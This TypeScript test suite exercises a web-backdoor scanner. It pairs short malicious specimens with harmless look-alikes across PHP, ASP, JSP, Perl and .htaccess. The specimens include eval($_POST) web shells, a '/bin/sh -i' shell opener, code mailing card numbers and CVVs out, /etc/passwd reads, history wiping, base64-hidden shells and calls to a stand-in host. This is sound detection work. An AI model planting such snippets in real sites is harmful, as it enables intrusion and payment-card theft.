// What backdoors live on and hide behind: fronts for other servers' pages, stolen cards, opened command lines, coded names. Each
// rule with a specimen of our own that does nothing by itself, and a close relative a shop may well hold; and what it may cost.

import assert from "node:assert/strict";
import { test } from "node:test";
import { weigh, type Effort } from "./contract.ts";
import { judgeFile } from "./judge.ts";
import { judgePhp } from "./php-judge.ts";

const page = (code: string): string => `<?php\n${code}\n${"// padding of a harmless kind\n".repeat(90)}`;
const rulesOf = (path: string, text: string): string[] => judgeFile(path, text).map(({ rule }) => rule);
const verdictOf = (path: string, text: string): string => weigh(judgeFile(path, text)).verdict;
const coded = (text: string): string => Buffer.from(text).toString("base64");
const FAR = "http://example.invalid/";

/** rule · what has it · what looks like it and has not. */
const PHP: readonly (readonly [string, string, string])[] = [
  [
    "php.front-page",
    `$u = '${FAR}i.php?h=' . $_SERVER['HTTP_HOST']; $c = file_get_contents($u); echo $c;`,
    `$c = file_get_contents('${FAR}rates.json?day=' . $day); echo $c;`,
  ],
  [
    "php.front-page",
    `function get($u) { return @file_get_contents($u); } echo get('${FAR}?p=' . $_SERVER['PHP_SELF']);`,
    `function get($u) { return @file_get_contents($u); } echo get('inc/' . $_SERVER['PHP_SELF']);`,
  ],
  [
    "php.front-page",
    `$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, '${FAR}?h=' . $_SERVER['SERVER_NAME']); echo curl_exec($ch);`,
    `$ch = curl_init('${FAR}'); $answer = json_decode(curl_exec($ch)); echo $answer->rate;`,
  ],
  [
    "php.calls-home",
    "mail('me@example.invalid', 'new', $_SERVER['SCRIPT_FILENAME'] . php_uname());",
    "mail($customer->email, 'Your order', 'Thank you. ' . $_SERVER['HTTP_HOST']);",
  ],
  [
    "php.opens-shell",
    "$p = proc_open('uname -a; /bin/sh -i', $d, $pipes);",
    "$p = proc_open('/usr/bin/convert -version', $d, $pipes);",
  ],
  ["php.opens-shell", "popen($_SERVER['COMSPEC'], 'r');", "popen($_SERVER['SERVER_NAME'], 'r');"],
  [
    "php.sends-cards",
    "$m = 'Card: ' . $_POST['card_number'] . ' CVV: ' . $_POST['cvv'] . $_SERVER['REMOTE_ADDR']; mail($to, 'x', $m);",
    "$m = 'Cart: ' . $_POST['amount'] . $_SERVER['REMOTE_ADDR']; mail($to, 'Order', $m);",
  ],
  [
    "php.wipes-traces",
    "system('find / -name *.bash_history -exec rm -rf {} \\;');",
    "system('find . -name cache'); unlink('history.txt');",
  ],
  [
    "php.proxy-server",
    "socket_listen($s); $c = socket_accept($s); socket_connect($o, $host, $port);",
    "class Server { function run() { socket_listen($s); $c = socket_accept($s); socket_connect($o, $h); } }".replace(
      "class",
      "\nclass",
    ),
  ],
  [
    "php.dumps-passwords",
    'set_time_limit(0); mysql_connect($h, $u, $p); mysql_query("select name, password from users limit $i, 50");',
    'mysql_connect($h, $u, $p); mysql_query("select name, price from products limit $i, 50");',
  ],
  ["php.reads-accounts", "$f = fopen('/etc/passwd', 'r');", "$f = fopen('/etc/hosts', 'r');"],
  [
    "php.carries-shell",
    "$code = '<?php eval($_POST[1]);?>'; put($path, $code);",
    "$code = '<?php return ' . var_export($list, true) . ';'; put($path, $code);",
  ],
  [
    "php.decoded-shell",
    `$t = base64_decode('${coded(`<?php $a = 1; ${"// more of it\n".repeat(20)} system($_POST['c']); ?>`)}'); show($t);`,
    `$t = base64_decode('${coded(`<?php $a = 1; ${"// more of it\n".repeat(20)} echo $a; ?>`)}'); show($t);`,
  ],
  [
    "php.name-table",
    `$n = ['${["unlink", "file_get_contents", "scandir", "rename"].map((one) => Buffer.from(one).toString("hex")).join("','")}'];`,
    "$n = ['cafe0001', 'cafe0002', 'cafe0003', 'cafe0004'];",
  ],
  [
    "php.coded-program",
    `$z = '123456${coded("@ini_set('display_errors', '0'); echo '->|'; eval($_POST['z0']); //  padding padding padding")}';`.replace(
      "'123456",
      "'",
    ),
    `$z = '${coded("A picture of 300 by 200 points, as text, and nothing that anybody would run; 0123456789")}';`,
  ],
  [
    "php.call-woven",
    "$a = 'abcdefg'; $i = [1, 2]; $f = ''; for ($k = 0; $k < 2; $k++) { $f .= $a[$i[$k]]; } $f(\"eval(base64_decode(1))\");",
    "$a = 'abcdefg'; $f = ''; for ($k = 0; $k < 2; $k++) { $f .= $a[$k]; } echo $f;",
  ],
  ["php.call-unknown", "${'_' . $x}['a'](${'_' . $x}['b']);", "echo ${'list_' . $x}['a'];"],
  ["php.call-by-name", "give('assert', array($_POST['a']));", "give('trim', array($_POST['a']));"],
  [
    "php.command-request",
    "function run($c) { $p = new perl(); $p->eval(\"system('$c')\"); } run($_GET['c']);",
    "function run($c) { $r = new redis(); $r->eval(\"return 1\"); } run($_GET['c']);",
  ],
];

test("what backdoors live on is named, what looks like it is not", () => {
  for (const [rule, has, hasNot] of PHP) {
    assert.ok(rulesOf("a.php", page(has)).includes(rule), `${rule}: ${has}`);
    assert.ok(!rulesOf("a.php", page(hasNot)).includes(rule), `${rule} wrongly: ${hasNot}`);
  }
});

test("calls that only look like a visitor's stay clean", () => {
  for (const code of [
    "$l = array_map(static fn($one) => trim($one), explode(',', $_POST['list'] ?? ''));",
    "$threads->sort($_GET['by']); Sorter::sort($_GET, ['name']);",
    "$data->createFunction($_POST['name'], $_POST['args'], $_POST['returns'], $_POST['body'], 'sql');",
    "$f = ($argv[1] ?? null) ?: 'trim'; $f('x');",
    "assert($_GET['a'] instanceof Stringable); assert(is_string($_GET['b']));",
  ])
    assert.equal(verdictOf("a.php", page(code)), "clean", code);
});

/** path · backdoor · relative. */
const OTHERS: readonly (readonly [string, string, string])[] = [
  ["a.asp", '<%\nx = Join(Split("e|v"), "")\nExecuteGlobal x\n%>', "<%\nconn.Execute sql\n%>"],
  ["a.jpg", 'GIF89a <%eval request("x")%>', "GIF89a <%% of it"],
  [
    "a.config/web.config",
    '<?xml version="1.0"?><handlers><add name="w" path="*.config" scriptProcessor="c:\\asp.dll" /></handlers>',
    '<?xml version="1.0"?><handlers><add name="php" path="*.php" scriptProcessor="c:\\php-cgi.exe" /></handlers>',
  ],
  [
    "global.asax",
    '<script runat="server">void Start() { if (is_spider()) { Response.Redirect("http://example.invalid/"); } }</script>',
    '<script runat="server">void Start() { Response.Redirect("/index.aspx"); }</script>',
  ],
  [
    "a.jsp",
    '<% String r = request.getHeader("user-agent"); URL u = new URL("http://example.invalid/"); u.openConnection(); out.print(s); %>',
    "<% URL u = new URL(base); u.openConnection(); %>",
  ],
  [".htaccess", "AddHandler cgi-script .cin\n", "Options -ExecCGI\nAddHandler cgi-script .php .pl .cgi\n"],
  ["a.cin", "#!/usr/bin/perl\neval(decode_base64('eA=='));\n", "#!/usr/bin/perl\nprint 1;\n"],
];

test("other languages and other endings: the backdoor is told, its relative is not", () => {
  for (const [path, has, hasNot] of OTHERS) {
    assert.notEqual(verdictOf(path, has), "clean", has);
    assert.equal(verdictOf(path, hasNot), "clean", hasNot);
  }
});

const effortOf = (source: string): { readonly steps: number; readonly read: number } => {
  const effort: Effort = { steps: 1_500_000, decodedBytes: 8 * 1024 * 1024, read: new Set() };
  judgePhp(source, effort);
  return { steps: 1_500_000 - effort.steps, read: effort.read.size };
};

test("layer within layer is read once each, in whatever ways it is reached", () => {
  let code = `$a = 1; ${"echo $a;".repeat(40)}`;
  for (let layer = 0; layer < 12; layer++) code = `$l = base64_decode('${coded(code)}'); eval($l);`;
  const { read } = effortOf(`<?php ${code}`);
  assert.ok(read > 6 && read <= 13, `${read} codes read`);
});

test("twice the text costs about twice the work", () => {
  for (const piece of [
    "$a[$b[$c]]=$d?($e?:$f):[$g,[$h]];",
    "if($a){while($b){$c.=chr($d).$e;}}",
    "f(g(h($_POST['a'],'b'.$c)));",
  ]) {
    const once = effortOf(`<?php ${piece.repeat(1_000)}`).steps;
    const twice = effortOf(`<?php ${piece.repeat(2_000)}`).steps;
    assert.ok(once > 1_000 && twice < once * 2.2, `${piece}: ${once}, ${twice}`);
  }
});
